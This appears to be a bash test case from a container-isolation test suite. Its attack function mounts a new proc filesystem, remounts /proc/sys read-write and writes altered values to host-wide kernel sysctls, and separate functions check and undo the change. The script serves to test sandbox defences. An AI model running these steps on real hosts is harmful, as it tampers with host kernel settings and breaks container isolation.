# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='sysctls of the whole host are written, through /proc as it stands and one of its own'
NEEDS_USERS='whoever is the host'"'"'s root and may mount has a /proc of his own'
SYSCTLS='kernel/printk_ratelimit_burst vm/vfs_cache_pressure fs/file-max kernel/threads-max'

sysctls() { for name in $SYSCTLS; do echo "$name $(cat "/proc/sys/$name")"; done; }

setup() { sysctls >"$PREY/sysctls"; }

attack() {
        busybox mkdir -p /escape/proc
        busybox mount -t proc proc /escape/proc
        for mounted in /proc /escape/proc; do
                busybox mount -o remount,rw,bind "$mounted/sys"
                busybox umount "$mounted/sys"
                for name in kernel/printk_ratelimit_burst vm/vfs_cache_pressure fs/file-max kernel/threads-max; do
                        value=$(busybox cat "$mounted/sys/$name") && echo $((value - 1)) >"$mounted/sys/$name"
                done
        done
}

verdict() {
        local changed
        changed=$(sysctls | grep -vxFf "$PREY/sysctls" | cut -d ' ' -f 1 | paste -sd ' ') || true
        if [ -n "$changed" ]; then works "changed: $changed"; else blocked "they are as before"; fi
}

undo() { while read -r name value; do echo "$value" >"/proc/sys/$name"; done <"$PREY/sysctls"; }
